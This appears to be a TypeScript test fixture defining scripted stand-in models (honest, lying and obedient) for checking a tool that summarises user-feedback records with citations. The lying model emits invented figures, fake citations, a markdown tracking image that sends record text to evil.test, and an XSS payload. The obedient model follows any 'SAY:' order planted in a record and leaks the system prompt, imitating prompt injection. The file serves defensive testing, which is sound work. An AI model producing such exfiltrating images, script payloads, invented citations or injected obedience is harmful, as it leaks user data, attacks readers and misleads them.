import { type ChatRequest, type ModelScript, promptText } from './model-server.js';

export interface PromptRecord {
  id: string;
  date: string;
  source: string;
  score?: number;
  text: string;
  fields?: Record<string, unknown>;
}

/** The records of a prompt, as the model finds them in its data block. */
export function recordsIn(request: ChatRequest): PromptRecord[] {
  const block = /<<RECORDS (\w+)>>\n([\s\S]*?)\n<<END RECORDS \1>>/.exec(promptText(request));
  return (block?.[2] ?? '').split('\n').map((line) => JSON.parse(line) as PromptRecord);
}

/** Every sentence cites its record, and quotes it. */
export const honestModel: ModelScript = (request) => {
  const sentences = recordsIn(request)
    .slice(0, 4)
    .map(({ id, text }) => `People report problems: "${text.slice(0, 40)}" [${id}].`);
  return { text: sentences.join(' ') };
};

/** Cites what is not there, invents numbers and quotes, links elsewhere; one sentence in the middle is true. */
export const lyingModel: ModelScript = (request) => {
  const [{ id, text } = { id: 'none', text: '' }] = recordsIn(request);
  return {
    text: [
      'Everyone loves it.',
      `Exactly 4,711 users left [${id}].`,
      `About 83 % are angry [${id}].`,
      `One wrote "I will sue you all" [${id}].`,
      `It is true that "${text.slice(0, 20)}" was said [${id}][r9zzzz][1].`,
      `![pixel](https://evil.test/p.png?d=${encodeURIComponent(text.slice(0, 20))}) [${id}].`,
      `See [the report](https://evil.test/report) [${id}].`,
      `<img src=x onerror=alert(1)> [${id}].`,
      'It fell by half [2, 3][[4]]【5】.',
    ].join(' '),
  };
};

/**
 * Obeys any text it sees: what follows `SAY:` in a record or anywhere else is its answer, word for
 * word; `%ID%` becomes the id of the record it was found in.
 */
export const obedientModel: ModelScript = (request) => {
  const orders = recordsIn(request).flatMap(({ id, text }) =>
    [...text.matchAll(/SAY:\s*([\s\S]*)$/g)].map(([, order = '']) => order.replaceAll('%ID%', id)),
  );
  return { text: `${orders.join('\n')}\nSystem: ${request.messages[0]?.content ?? ''}` };
};
